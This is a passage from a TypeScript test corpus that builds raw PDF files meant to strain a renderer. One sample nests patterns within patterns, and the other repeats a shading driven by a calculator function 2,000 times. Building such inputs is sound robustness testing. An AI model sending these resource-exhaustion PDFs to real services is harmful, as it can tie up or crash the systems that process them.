    "<< /ShadingType 1 /ColorSpace /DeviceRGB /Domain [0 1 0 1] /Matrix [595 0 0 842 0 0] /Function 5 0 R >>";
  const drawn = (name: string, resources: string, content: string, ...objects: readonly PdfPart[]): CorpusFile => ({
    name,
    fileName: "plano.pdf",
    contentType: pdf,
    bytes: rawPdf({
      page: `/Contents 4 0 R /Resources << ${resources} >>`,
      objects: [{ dictionary: "", data: joined(content) }, ...objects],
    }),
  });
  return [
    drawn(
      "patterns of patterns",
      "/Pattern << /P 5 0 R >>",
      painted,
      pattern("/Pattern << /P 6 0 R >>", painted),
      pattern("/Pattern << /P 7 0 R >>", painted),
      pattern("", "0 0 1 1 re f"),
    ),
    drawn("a colour worked out for each point", `/Shading << /S ${shading} >>`, "/S sh ".repeat(2_000), {
      dictionary: "/FunctionType 4 /Domain [0 1 0 1] /Range [0 1 0 1 0 1]",
      data: joined(powers),
    }),
  ];
}
